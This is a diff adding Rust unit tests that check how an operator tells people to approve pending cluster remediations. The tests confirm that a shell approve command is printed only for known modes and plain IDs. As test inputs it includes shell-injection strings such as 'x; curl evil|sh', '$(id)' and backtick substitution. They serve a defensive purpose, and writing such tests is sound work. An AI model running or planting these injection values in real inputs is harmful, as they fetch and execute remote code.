@@ -1,0 +1,134 @@
+//! How a person is told to approve.
+
+use super::*;
+use crate::{
+    api::remediation::RemediationSpec,
+    events::of_deed,
+    mirror::write::Deed,
+    testing::{CLUSTER, at, index},
+    watch::rollup::rollup,
+};
+
+/// What is told of one that awaits approval: in its conditions, in the Event and in the condition of its `ClusterWatch`.
+fn told(id: &str, mode: Option<&str>) -> Vec<String> {
+    let waits = together::Remediation {
+        id: id.into(),
+        mode: mode.map(Into::into),
+        ..item(1, "PENDING_APPROVAL")
+    };
+    let status = from_api(&waits, &[], 1);
+    let mut all: Vec<_> = ["Succeeded", "Reconciling"]
+        .map(|type_| condition(&status.conditions, type_).message.clone())
+        .into();
+    let spec = RemediationSpec {
+        cluster_id: CLUSTER.into(),
+        id: id.into(),
+    };
+    let create = Deed::Create(Box::new(status), spec);
+    let news = Some(at("2026-11-23T08:00:00Z"));
+    all.extend(of_deed(&create, news).into_iter().map(|said| said.note));
+    let index = index(&[waits]);
+    let mirrors = index.mirrors(crate::testing::NAMESPACE, CLUSTER, None, |_| true);
+    let mirrors = mirrors.iter().map(|(name, mirror)| (&**name, &**mirror));
+    all.extend(rollup(mirrors).message);
+    assert_eq!(all.len(), 4);
+    all
+}
+
+#[test]
+fn the_command_approves_the_mode_that_is_mirrored_and_no_other() {
+    let command = "tg clusters remediations approve rem-1";
+    let first = "First check that the mode is still";
+    let unknown = format!("First check the mode, then approve: {command}");
+    // The mode as the API has it, what is told.
+    let table = [
+        (
+            Some("VM_ONLY"),
+            format!("To approve: {command} --mode VM_ONLY"),
+        ),
+        (
+            Some("HOST_AWARE"),
+            format!("To approve: {command} --mode HOST_AWARE"),
+        ),
+        (
+            Some("EVICT_WITHOUT_REPLACEMENT"),
+            format!("To approve: {command} --mode EVICT_WITHOUT_REPLACEMENT"),
+        ),
+        (
+            Some("REBOOT_VM"),
+            format!("To approve: {command} --mode REBOOT_VM"),
+        ),
+        (
+            Some("HOST_POWER_CYCLE"),
+            format!("{first} HOST_POWER_CYCLE, then approve: {command}"),
+        ),
+        (Some("TURN_AROUND"), unknown.clone()),
+        (Some("x; curl evil|sh"), unknown.clone()),
+        (None, unknown),
+    ];
+    for (mode, wanted) in table {
+        let mode = mode.map(|mode| format!("REMEDIATION_MODE_{mode}"));
+        for message in told("rem-1", mode.as_deref()) {
+            assert!(message.ends_with(&wanted), "{message}\nand not: {wanted}");
+        }
+    }
+}
+
+#[test]
+fn a_command_is_printed_for_plain_ids_alone() {
+    for id in [
+        "x",
+        "_",
+        ".",
+        "a-b_c.D9",
+        "9f0c8a52-7d0e-4a39-9c1a-000000000001",
+    ] {
+        for message in told(id, Some("REMEDIATION_MODE_REBOOT_VM")) {
+            assert!(
+                message.ends_with(&format!(" approve {id} --mode REBOOT_VM")),
+                "{message}"
+            );
+        }
+    }
+    for id in [
+        "x; curl evil|sh",
+        "-x",
+        "--mode",
+        "$(id)",
+        "`id`",
+        "a b",
+        "a'b",
+        "a\nb",
+        "a\\",
+        "a/b",
+        "ü",
+        "a\u{202e}b",
+        "~",
+        "*",
+        "",
+    ] {
+        for mode in [
+            Some("REMEDIATION_MODE_REBOOT_VM"),
+            Some("REMEDIATION_MODE_HOST_POWER_CYCLE"),
+            None,
+        ] {
+            for message in told(id, mode) {
+                assert!(!message.contains("tg clusters"), "{message}");
+                assert!(message.contains("Together console"), "{message}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_long_reason_does_not_cut_the_command() {
+    let waits = together::Remediation {
+        reason: some(&"€".repeat(5000)),
+        instance_name: some(&"n".repeat(5000)),
+        ..full_item("PENDING_APPROVAL")
+    };
+    let status = from_api(&waits, &[], 1);
+    let message = &condition(&status.conditions, "Succeeded").message;
+    assert!(message.ends_with(" --mode REBOOT_VM"), "{message}");
+    assert!(message.contains("€…)"), "{message}");
+}
